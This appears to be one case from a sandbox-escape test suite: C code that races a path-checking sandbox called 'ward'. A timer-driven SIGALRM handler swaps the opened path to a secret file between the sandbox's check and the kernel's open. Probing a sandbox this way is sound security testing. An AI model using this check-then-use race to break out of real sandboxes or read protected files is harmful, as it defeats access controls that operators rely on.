/* R12: no second thread: a SIGALRM handler, fired by an interval timer,
 * switches the path the thread is opening to the secret (the loop puts the
 * harmless name back before each open), hoping to run between ward's read
 * and the kernel's: in a stop, or in a call restarted after the signal. */
#include "escape.h"
#include <signal.h>
#include <sys/time.h>

static char path[4096], good[4096], bad[4096];
static void flip(int sig)
{
	(void)sig;
	strcpy(path, bad);
}

int attack(int argc, char **argv)
{
	struct itimerval it = { { 0, 300 }, { 0, 300 } };
	struct sigaction sa;
	long w = 0, i;

	twin_paths(good, bad, sizeof(good), ARG("secret"), ARG("wd"));
	strcpy(path, good);
	memset(&sa, 0, sizeof(sa));
	sa.sa_handler = flip;
	sa.sa_flags = SA_RESTART;
	sigaction(SIGALRM, &sa, NULL);
	setitimer(ITIMER_REAL, &it, NULL);
	for (i = 0; i < RACE_N; i++) {
		strcpy(path, good);
		w += open_leaks(path, ARG("token"));
	}
	memset(&it, 0, sizeof(it));
	setitimer(ITIMER_REAL, &it, NULL);
	wins(w, i);
	return 0;
}
